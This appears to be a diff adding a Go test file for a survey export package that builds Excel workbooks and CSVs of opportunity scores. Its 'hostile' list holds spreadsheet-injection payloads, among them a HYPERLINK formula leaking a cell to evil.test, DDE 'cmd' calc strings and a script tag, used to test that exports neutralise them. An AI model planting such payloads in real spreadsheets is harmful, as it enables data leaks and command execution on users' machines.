@@ -1,0 +1,532 @@
+package export_test
+
+import (
+	"bytes"
+	"encoding/csv"
+	"errors"
+	"fmt"
+	"io"
+	"math"
+	"regexp"
+	"slices"
+	"strconv"
+	"strings"
+	"testing"
+
+	"github.com/xuri/excelize/v2"
+
+	"odi/surveys"
+	"odi/surveys/export"
+	"odi/surveys/statement"
+)
+
+func TestWorkbookSheetsAreNamedAndOrdered(t *testing.T) {
+	s := worked(t)
+	f, _ := workbook(t, s.input("team_size", true))
+	want := []string{"Summary", "Opportunities", "small", "large", "Segment comparison", "Landscape", "Outcomes", "Responses", "Quality"}
+	if got := f.GetSheetList(); !slices.Equal(got, want) {
+		t.Errorf("sheets %q, want %q", got, want)
+	}
+
+	f, _ = workbook(t, s.input("", false))
+	want = []string{"Summary", "Opportunities", "Segment comparison", "Landscape", "Outcomes", "Quality"}
+	if got := f.GetSheetList(); !slices.Equal(got, want) {
+		t.Errorf("without segments or responses: sheets %q, want %q", got, want)
+	}
+}
+
+// checkRanked compares a ranked sheet with the group the API returns: same
+// rows, same order, numbers stored unrounded.
+func checkRanked(t *testing.T, f *excelize.File, data []byte, sheet string, g surveys.Group) {
+	t.Helper()
+	rows := raw(t, f, sheet)
+	if got := rows[0][:len(export.RankedHeader)]; !slices.Equal(got, export.RankedHeader) {
+		t.Fatalf("%s header %q", sheet, got)
+	}
+	if !slices.Equal(export.RankedHeader[:9], []string{"Rank", "Code", "Step", "Outcome", "Importance", "Satisfaction", "Opportunity", "Class", "n"}) {
+		t.Fatalf("ranked header starts %q", export.RankedHeader[:9])
+	}
+	if len(g.Outcomes) == 0 {
+		t.Fatalf("%s: group %s has no outcomes", sheet, g.Key)
+	}
+	for i, o := range g.Outcomes {
+		r := rows[i+1]
+		want := []string{strconv.Itoa(o.Rank), o.Code, o.Step, o.Statement}
+		if !slices.Equal(r[:4], want) || r[7] != o.Class || r[8] != strconv.Itoa(o.N) {
+			t.Errorf("%s row %d: %q, want %q ... class %s n %d", sheet, i+2, r[:9], want, o.Class, o.N)
+		}
+		for col, v := range map[int]float64{4: o.Importance, 5: o.Satisfaction, 6: o.Opportunity,
+			9: o.ImportanceCI[0], 10: o.ImportanceCI[1], 11: o.SatisfactionCI[0], 12: o.SatisfactionCI[1],
+			13: o.MeanImportance, 14: o.MeanSatisfaction, 15: o.Gap} {
+			if got := num(t, r[col]); got != v {
+				t.Errorf("%s row %d %s = %v, want %v", sheet, i+2, export.RankedHeader[col], got, v)
+			}
+		}
+	}
+	panes, err := f.GetPanes(sheet)
+	if err != nil || !panes.Freeze || panes.YSplit != 1 || panes.TopLeftCell != "A2" {
+		t.Errorf("%s panes %+v %v, want the header frozen", sheet, panes, err)
+	}
+	last := len(g.Outcomes) + 1
+	if x := string(zipFile(t, data, sheetPath(t, data, sheet))); !strings.Contains(x, fmt.Sprintf(`<autoFilter ref="$A$1:$P$%d"`, last)) {
+		t.Errorf("%s has no autofilter on A1:P%d", sheet, last)
+	}
+	for _, ref := range []string{"E2", "F2", "G2", "J2", "P2"} {
+		id, _ := f.GetCellStyle(sheet, ref)
+		st, err := f.GetStyle(id)
+		if err != nil || st.CustomNumFmt == nil || *st.CustomNumFmt != "0.0" {
+			t.Errorf("%s %s number format %+v %v, want 0.0", sheet, ref, st, err)
+		}
+	}
+	shown, _ := f.GetCellValue(sheet, "G2")
+	if want := strconv.FormatFloat(g.Outcomes[0].Opportunity, 'f', 1, 64); shown != want {
+		t.Errorf("%s G2 shows %q, want %q", sheet, shown, want)
+	}
+	cf, err := f.GetConditionalFormats(sheet)
+	if err != nil {
+		t.Fatal(err)
+	}
+	rules := cf[fmt.Sprintf("H2:H%d", last)]
+	var values []string
+	for _, r := range rules {
+		values = append(values, r.Value)
+	}
+	if want := []string{`"extreme"`, `"high"`, `"solid"`, `"served"`, `"overserved"`}; !slices.Equal(values, want) {
+		t.Errorf("%s class formatting %q, want %q", sheet, values, want)
+	}
+	for _, r := range rules {
+		st, err := f.GetConditionalStyle(*r.Format)
+		if err != nil || len(st.Fill.Color) == 0 {
+			t.Errorf("%s class %s has no fill: %+v %v", sheet, r.Value, st, err)
+		}
+	}
+}
+
+func TestRankedSheetsMatchTheOpportunities(t *testing.T) {
+	s := worked(t)
+	in := s.input("team_size", true)
+	f, data := workbook(t, in)
+	checkRanked(t, f, data, "Opportunities", in.Opportunities.Groups[0])
+	checkRanked(t, f, data, "small", in.Opportunities.Groups[1])
+	checkRanked(t, f, data, "large", in.Opportunities.Groups[2])
+
+	// Hand-computed from scoring.md: all respondents, O04 first at 160/9.
+	rows := raw(t, f, "Opportunities")
+	want := [][]string{
+		{"1", "O04", "17.78", "extreme", "9"},
+		{"2", "O02", "13.75", "high", "8"},
+		{"3", "O01", "12.22", "high", "9"},
+		{"4", "O03", "0.00", "overserved", "9"},
+	}
+	for i, w := range want {
+		r := rows[i+1]
+		got := []string{r[0], r[1], fmt.Sprintf("%.2f", num(t, r[6])), r[7], r[8]}
+		if !slices.Equal(got, w) {
+			t.Errorf("Opportunities row %d: %q, want %q", i+2, got, w)
+		}
+	}
+	if got := num(t, rows[1][4]); math.Abs(got-80.0/9) > 1e-12 {
+		t.Errorf("O04 importance %v, want 80/9", got)
+	}
+	small := raw(t, f, "small")
+	if small[1][1] != "O01" || num(t, small[1][6]) != 20 || small[2][1] != "O04" || small[3][7] != "served" {
+		t.Errorf("small: %q", small[1:4])
+	}
+	// Beside the table: what the group is.
+	if small[0][17] != "Group" || small[0][18] != "small" || small[1][18] != "4" {
+		t.Errorf("small group info: %q %q", small[0][17:], small[1][17:])
+	}
+}
+
+func TestSegmentComparisonIsAHeatMapWithN(t *testing.T) {
+	s := worked(t)
+	in := s.input("team_size", false)
+	f, _ := workbook(t, in)
+	rows := raw(t, f, "Segment comparison")
+	if want := []string{"Rank", "Code", "Outcome", "All respondents", "small", "large"}; !slices.Equal(rows[1], want) {
+		t.Fatalf("header %q, want %q", rows[1], want)
+	}
+	if got := rows[0][3:]; !slices.Equal(got, []string{"9", "4", "5"}) {
+		t.Errorf("n row %q, want 9 4 5", got)
+	}
+	id, _ := f.GetCellStyle("Segment comparison", "E1")
+	if st, _ := f.GetStyle(id); st == nil || st.CustomNumFmt == nil || *st.CustomNumFmt != `0"*"` {
+		t.Errorf("low n is not marked with a star: %+v", st)
+	}
+	for i, o := range in.Opportunities.Groups[0].Outcomes {
+		r := rows[i+2]
+		if r[0] != strconv.Itoa(o.Rank) || r[1] != o.Code || r[2] != o.Statement {
+			t.Errorf("row %d: %q", i+3, r[:3])
+		}
+		for gi, g := range in.Opportunities.Groups {
+			for _, go_ := range g.Outcomes {
+				if go_.Code == o.Code && num(t, r[3+gi]) != go_.Opportunity {
+					t.Errorf("%s %s: %s, want %v", g.Key, o.Code, r[3+gi], go_.Opportunity)
+				}
+			}
+		}
+	}
+	cf, _ := f.GetConditionalFormats("Segment comparison")
+	scale := cf["D3:F6"]
+	if len(scale) != 1 || scale[0].Type != "3_color_scale" || scale[0].MidValue != "10" {
+		t.Errorf("heat map formatting %+v", cf)
+	}
+	panes, _ := f.GetPanes("Segment comparison")
+	if !panes.Freeze || panes.YSplit != 2 || panes.XSplit != 3 {
+		t.Errorf("panes %+v", panes)
+	}
+}
+
+func TestLandscapeHasANativeScatterChartOfItsData(t *testing.T) {
+	s := worked(t)
+	in := s.input("team_size", false)
+	f, data := workbook(t, in)
+	cs := charts(t, data, "Landscape")
+	if len(cs) != 1 {
+		t.Fatalf("Landscape has %d charts, want 1", len(cs))
+	}
+	x := strings.ReplaceAll(string(cs[0]), "&#39;", "'")
+	if !regexp.MustCompile(`<(c:)?scatterChart>`).MatchString(x) {
+		t.Fatalf("chart is not a scatter chart: %.300s", x)
+	}
+	// extreme, high, overserved, then the three guide lines.
+	for _, ref := range []string{"'Landscape'!$C$2:$C$2", "'Landscape'!$D$3:$D$4", "'Landscape'!$C$5:$C$5", "'Landscape'!$J$6:$J$7"} {
+		if !strings.Contains(x, ref) {
+			t.Errorf("chart does not plot %s", ref)
+		}
+	}
+	rows := raw(t, f, "Landscape")
+	got := map[string][2]float64{}
+	for _, r := range rows[1:5] {
+		got[r[0]] = [2]float64{num(t, r[2]), num(t, r[3])}
+	}
+	for _, o := range in.Opportunities.Groups[0].Outcomes {
+		if got[o.Code] != [2]float64{o.Importance, o.Satisfaction} {
+			t.Errorf("%s plotted at %v, want %v, %v", o.Code, got[o.Code], o.Importance, o.Satisfaction)
+		}
+	}
+	if rows[1][5] != "extreme" || rows[4][5] != "overserved" {
+		t.Errorf("landscape data not grouped by class: %q", rows[1:5])
+	}
+}
+
+func TestOutcomesSheetHasParsedPartsAndLint(t *testing.T) {
+	s := worked(t)
+	s.design.Outcomes[3].Statement = "Use Slack and Notion"
+	s.design.Outcomes[3].Lint = []statement.Issue{{Rule: "no_direction", Message: "start with a direction"}}
+	f, _ := workbook(t, s.input("", false))
+	rows := raw(t, f, "Outcomes")
+	if want := []string{"Code", "Step", "Statement", "Direction", "Metric", "Object of control", "Contextual clarifier", "Lint"}; !slices.Equal(rows[0], want) {
+		t.Fatalf("header %q", rows[0])
+	}
+	for i, o := range s.design.Outcomes {
+		r := append(rows[i+1], make([]string, 8)...)
+		if r[0] != o.Code || r[1] != o.Step || r[2] != o.Statement || r[3] != o.Parsed.Direction || r[4] != o.Parsed.Metric || r[5] != o.Parsed.Object {
+			t.Errorf("row %d: %q for %+v", i+2, r[:8], o)
+		}
+	}
+	if r := append(rows[4], make([]string, 8)...); r[7] != "no_direction: start with a direction" {
+		t.Errorf("lint %q", rows[4])
+	}
+}
+
+func TestResponsesSheetIsTheWideLayout(t *testing.T) {
+	s := worked(t)
+	f, data := workbook(t, s.input("team_size", true))
+	rows := raw(t, f, "Responses")
+	if !slices.Equal(rows[0], s.design.WideHeader()) {
+		t.Fatalf("header %q, want %q", rows[0], s.design.WideHeader())
+	}
+	var want [][]string
+	s.rows()(func(r []string) error { want = append(want, slices.Clone(r)); return nil })
+	if len(rows)-1 != len(want) {
+		t.Fatalf("%d response rows, want %d", len(rows)-1, len(want))
+	}
+	for i, w := range want {
+		got := append(rows[i+1], make([]string, len(w))...)[:len(w)]
+		if !slices.Equal(got, w) {
+			t.Errorf("row %d: %q, want %q", i+2, got, w)
+		}
+	}
+	if typ, _ := f.GetCellType("Responses", "D2"); typ == excelize.CellTypeInlineString || typ == excelize.CellTypeSharedString {
+		t.Errorf("ratings are stored as text")
+	}
+	panes, _ := f.GetPanes("Responses")
+	if !panes.Freeze || panes.YSplit != 1 {
+		t.Errorf("Responses panes %+v", panes)
+	}
+	if x := string(zipFile(t, data, sheetPath(t, data, "Responses"))); !strings.Contains(x, `<autoFilter ref="$A$1:$K$11"`) {
+		t.Errorf("Responses has no autofilter: %.400s", x[strings.Index(x, "</sheetData>"):])
+	}
+}
+
+func TestSummaryAndQuality(t *testing.T) {
+	s := worked(t)
+	s.responses[0].Flags = []string{surveys.FlagStraightLining}
+	in := s.input("team_size", false)
+	in.Query = surveys.OpportunityQuery{SegmentBy: "team_size", Filters: []surveys.Filter{{Key: "team_size", Value: "small"}}}
+	f, _ := workbook(t, in)
+	rows := raw(t, f, "Summary")
+	kv := map[string]string{}
+	for _, r := range rows {
+		if len(r) >= 2 {
+			kv[r[0]] = r[1]
+		}
+	}
+	for k, v := range map[string]string{
+		"Study": "Team workspace", "Job": s.design.Study.Job.Sentence(), "Segmented by": "team_size",
+		"Complete": "9", "In progress": "1", "Started": "10", "Respondents in the results (n)": "9",
+		"Filtered to": "team_size = small", "Counted": "complete responses not excluded by the researcher",
+	} {
+		if kv[k] != v {
+			t.Errorf("Summary %s = %q, want %q", k, kv[k], v)
+		}
+	}
+	var top []string
+	for i, r := range rows {
+		if len(r) > 0 && r[0] == "Top outcomes (all respondents)" {
+			for _, rr := range rows[i+2 : i+6] {
+				top = append(top, rr[1])
+			}
+		}
+	}
+	if !slices.Equal(top, []string{"O04", "O02", "O01", "O03"}) {
+		t.Errorf("top outcomes %q", top)
+	}
+	var prio []string
+	for i, r := range rows {
+		if len(r) > 0 && r[0] == "Segment priority" {
+			for _, rr := range rows[i+3:] {
+				prio = append(prio, rr[0])
+			}
+		}
+	}
+	if len(prio) != 2 {
+		t.Errorf("segment priority rows %q", prio)
+	}
+
+	q := raw(t, f, "Quality")
+	got := map[string]string{}
+	for _, r := range q {
+		if len(r) == 2 {
+			got[r[0]] = r[1]
+		}
+	}
+	if got["Complete"] != "9" || got["Carrying any quality flag"] != "1" || got["Flag: straight lining"] != "1" ||
+		got["Excluded from the results by the researcher"] != "0" {
+		t.Errorf("Quality %q", got)
+	}
+}
+
+// hostile are texts people could type that a spreadsheet might run, or that
+// could break a page or a sheet.
+var hostile = []string{
+	`=HYPERLINK("http://evil.test/?leak="&A1,"Click")`,
+	"+44 20 7946 0000",
+	"-2+3+cmd|' /C calc'!A0",
+	"@SUM(1+1)*cmd|' /C calc'!A0",
+	"\t=1+1",
+	"\r=1+1",
+	"<script>alert('x')</script> & <b>bold</b>",
+	"\u202Eevil reversed",
+	"خفض الوقت اللازم للعثور على قرار",
+	"\u200B=1+1 behind a zero-width space",
+	"＝1+1",
+	strings.Repeat("Minimize the time it takes to find it ", 1000),
+}
+
+func TestHostileTextIsNeutralised(t *testing.T) {
+	labels := []string{"=1+1", "+seg", "-seg", "@seg", "<b>seg</b>", "Sales/Ops: [EMEA]?*", strings.Repeat("Long label ", 10), "summary"}
+	d := newDesign(hostile[0], hostile, []surveys.Question{
+		{Key: "segment", Text: "Segment", Kind: surveys.KindSingle, Options: labels, Segment: true},
+		{Key: "comment", Text: "Anything else?", Kind: surveys.KindText},
+	})
+	d.Study.Job = surveys.Job{When: "=1+1", Want: "+do it", SoThat: "-later"}
+	d.Study.RespondentRole = "@role"
+	s := &study{design: d}
+	for i := range 40 {
+		r := surveys.Response{RespondentID: fmt.Sprintf("r%02d", i), Status: surveys.Complete, Ratings: make([]byte, 2*len(hostile)),
+			Answers: map[string]string{"segment": labels[i%len(labels)], "comment": hostile[i%len(hostile)]}}
+		for j := range r.Ratings {
+			r.Ratings[j] = byte(1 + (i+j)%5)
+		}
+		s.responses = append(s.responses, r)
+	}
+	in := s.input("segment", true)
+	f, data := workbook(t, in)
+
+	check := func(sheet, ref, want string) {
+		t.Helper()
+		got, err := f.GetCellValue(sheet, ref, excelize.Options{RawCellValue: true})
+		if err != nil {
+			t.Fatal(err)
+		}
+		if len(want) > 32767 {
+			want = want[:len(got)]
+			if len(got) < 30000 {
+				t.Errorf("%s!%s: long text cut to %d bytes", sheet, ref, len(got))
+			}
+		}
+		if got != want {
+			t.Errorf("%s!%s = %.60q, want %.60q", sheet, ref, got, want)
+		}
+		if fx, _ := f.GetCellFormula(sheet, ref); fx != "" {
+			t.Errorf("%s!%s is a formula: %q", sheet, ref, fx)
+		}
+		if typ, _ := f.GetCellType(sheet, ref); typ != excelize.CellTypeInlineString && typ != excelize.CellTypeSharedString {
+			t.Errorf("%s!%s has type %v, want a string", sheet, ref, typ)
+		}
+		lead := strings.ContainsAny(want[:1], "=+-@\t\r") || strings.HasPrefix(want, "＝")
+		if q := quotePrefixed(t, f, sheet, ref); q != lead {
+			t.Errorf("%s!%s %.20q: quotePrefix %v, want %v", sheet, ref, want, q, lead)
+		}
+	}
+	check("Summary", "B3", hostile[0])
+	check("Summary", "B4", d.Study.Job.Sentence())
+	check("Summary", "B5", "@role")
+	for i, o := range in.Opportunities.Groups[0].Outcomes {
+		check("Opportunities", fmt.Sprintf("D%d", i+2), o.Statement)
+		check("Segment comparison", fmt.Sprintf("C%d", i+3), o.Statement)
+	}
+	for i, o := range d.Outcomes {
+		check("Outcomes", fmt.Sprintf("C%d", i+2), o.Statement)
+	}
+	sheets := f.GetSheetList()
+	wantSheets := append([]string{"Summary", "Opportunities"}, export.SheetNames(labels)...)
+	wantSheets = append(wantSheets, "Segment comparison", "Landscape", "Outcomes", "Responses", "Quality")
+	if !slices.Equal(sheets, wantSheets) {
+		t.Errorf("sheets %q, want %q", sheets, wantSheets)
+	}
+	for i, l := range labels {
+		check(sheets[2+i], "S1", l)
+		check("Segment comparison", fmt.Sprintf("%s2", string(rune('E'+i))), l)
+	}
+	rows := raw(t, f, "Responses")
+	col := slices.Index(rows[0], "comment")
+	for i, r := range s.responses {
+		ref, _ := excelize.CoordinatesToCellName(col+1, i+2)
+		check("Responses", ref, r.Answers["comment"])
+	}
+	// Nothing anywhere in the package is a formula.
+	for _, sh := range sheets {
+		if x := zipFile(t, data, sheetPath(t, data, sh)); bytes.Contains(x, []byte("<f>")) || bytes.Contains(x, []byte("<f ")) {
+			t.Errorf("sheet %s holds a formula", sh)
+		}
+	}
+}
+
+func TestRankedCSVIsLongFormatWithBOM(t *testing.T) {
+	s := worked(t)
+	opps := s.opportunities("team_size")
+	opps.Groups[1].Label = "=small"
+	var buf bytes.Buffer
+	if err := export.RankedCSV(&buf, opps); err != nil {
+		t.Fatal(err)
+	}
+	if !bytes.HasPrefix(buf.Bytes(), []byte("\xef\xbb\xbf")) {
+		t.Fatal("no byte order mark")
+	}
+	recs, err := csv.NewReader(bytes.NewReader(buf.Bytes()[3:])).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if want := append([]string{"Group"}, export.RankedHeader...); !slices.Equal(recs[0], want) {
+		t.Fatalf("header %q", recs[0])
+	}
+	i := 1
+	for _, g := range opps.Groups {
+		label := g.Label
+		if label == "=small" {
+			label = "'=small"
+		}
+		for _, o := range g.Outcomes {
+			r := recs[i]
+			i++
+			if r[0] != label || r[1] != strconv.Itoa(o.Rank) || r[2] != o.Code || r[4] != o.Statement || num(t, r[7]) != o.Opportunity || r[8] != o.Class {
+				t.Errorf("row %d: %q", i, r)
+			}
+			if num(t, r[16]) != o.Gap {
+				t.Errorf("row %d gap %s, want %v", i, r[16], o.Gap)
+			}
+		}
+	}
+	if i != len(recs) {
+		t.Errorf("%d rows, want %d", len(recs), i)
+	}
+}
+
+func TestSheetNamesAreSafeAndUnique(t *testing.T) {
+	long := strings.Repeat("x", 40)
+	tests := []struct {
+		name   string
+		labels []string
+		want   []string
+	}{
+		{"plain", []string{"1-9", "10-49", "250+"}, []string{"1-9", "10-49", "250+"}},
+		{"forbidden characters", []string{`a[b]c:d*e?f/g\h`}, []string{"a_b_c_d_e_f_g_h"}},
+		{"31 characters", []string{long}, []string{long[:31]}},
+		{"duplicates after cutting", []string{long, long + "y"}, []string{long[:31], long[:27] + " (2)"}},
+		{"duplicates ignoring case", []string{"Small", "small", "SMALL"}, []string{"Small", "small (2)", "SMALL (3)"}},
+		{"fixed names", []string{"Summary", "opportunities", "Segment Comparison", "LANDSCAPE", "Outcomes", "responses", "Quality", "History"},
+			[]string{"Summary (2)", "opportunities (2)", "Segment Comparison (2)", "LANDSCAPE (2)", "Outcomes (2)", "responses (2)", "Quality (2)", "History (2)"}},
+		{"apostrophes at the ends", []string{"'quoted'", "it's"}, []string{"quoted", "it's"}},
+		{"empty and blank", []string{"", "  ", "\t"}, []string{"Segment 1", "Segment 2", "Segment 3"}},
+		{"invisible characters", []string{"a\u200Bb\u202Ec", "line\nbreak"}, []string{"abc", "line break"}},
+		{"wide characters", []string{strings.Repeat("😀", 20)}, []string{strings.Repeat("😀", 15)}},
+		{"formula-looking", []string{"=1+1", "@x"}, []string{"=1+1", "@x"}},
+		{"suffix keeps the limit", []string{strings.Repeat("a", 31), strings.Repeat("A", 31)}, []string{strings.Repeat("a", 31), strings.Repeat("A", 27) + " (2)"}},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got := export.SheetNames(tt.labels)
+			if !slices.Equal(got, tt.want) {
+				t.Errorf("SheetNames(%q) = %q, want %q", tt.labels, got, tt.want)
+			}
+			// Every name is one excelize (and so Excel) accepts.
+			f := excelize.NewFile()
+			defer f.Close()
+			for _, n := range got {
+				if _, err := f.NewSheet(n); err != nil {
+					t.Errorf("%q: %v", n, err)
+				}
+			}
+			if len(f.GetSheetList()) != len(got)+1 {
+				t.Errorf("names clash: %q", f.GetSheetList())
+			}
+		})
+	}
+}
+
+func TestWideCSVStreamsRowsAndStopsTheWriter(t *testing.T) {
+	write := func(w io.Writer) error {
+		cw := csv.NewWriter(w)
+		cw.Write([]string{"respondent_id", "status"})
+		for i := range 100000 {
+			if err := cw.Write([]string{"r" + strconv.Itoa(i), "complete"}); err != nil {
+				return err
+			}
+		}
+		cw.Flush()
+		return cw.Error()
+	}
+	n := 0
+	if err := export.WideCSV(write)(func(r []string) error { n++; return nil }); err != nil || n != 100000 {
+		t.Fatalf("read %d rows, err %v", n, err)
+	}
+	stop := errors.New("stop")
+	n = 0
+	err := export.WideCSV(write)(func(r []string) error {
+		if n++; n == 10 {
+			return stop
+		}
+		return nil
+	})
+	if !errors.Is(err, stop) || n != 10 {
+		t.Fatalf("early stop: %d rows, err %v", n, err)
+	}
+	boom := errors.New("database gone")
+	err = export.WideCSV(func(w io.Writer) error { io.WriteString(w, "respondent_id\nr1\n"); return boom })(func([]string) error { return nil })
+	if !errors.Is(err, boom) {
+		t.Fatalf("writer error: %v", err)
+	}
+}
